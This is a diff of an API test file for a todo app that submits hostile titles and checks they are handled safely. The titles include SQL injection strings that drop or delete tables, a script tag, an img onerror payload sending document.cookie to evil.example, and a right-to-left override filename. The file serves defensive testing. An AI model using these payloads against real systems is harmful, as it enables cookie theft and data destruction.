@@ -14,6 +14,7 @@ test.each([
   ["SQL", "'); DROP TABLE todos; --"],
   ["SQL quoting", `Robert'); DELETE FROM "user" WHERE ('1'='1`],
   ["a script tag", "<script>alert(document.cookie)</script>"],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the point
   ["an event handler", '<img src=x onerror="fetch(`//evil.example/${document.cookie}`)">'],
   ["emoji and ZWJ sequences", "Buy 🥛 for 👩‍👩‍👧‍👦"],
   ["right-to-left override", "invoice\u202Egpj.exe"],
@@ -34,10 +35,10 @@ test("the todos table survived all of it", async () => {
   expect((await apiCall(token, "GET", "/api/todos")).status).toBe(200);
 });
 
-test.each([["a NUL character", "nul\u0000byte"], ["a control character", "bell\u0007"]])(
-  "%s is refused with 422",
-  async (_, title) => {
-    const res = await apiCall(token, "POST", "/api/todos", { title });
-    expect(res.status).toBe(422);
-  },
-);
+test.each([
+  ["a NUL character", "nul\u0000byte"],
+  ["a control character", "bell\u0007"],
+])("%s is refused with 422", async (_, title) => {
+  const res = await apiCall(token, "POST", "/api/todos", { title });
+  expect(res.status).toBe(422);
+});
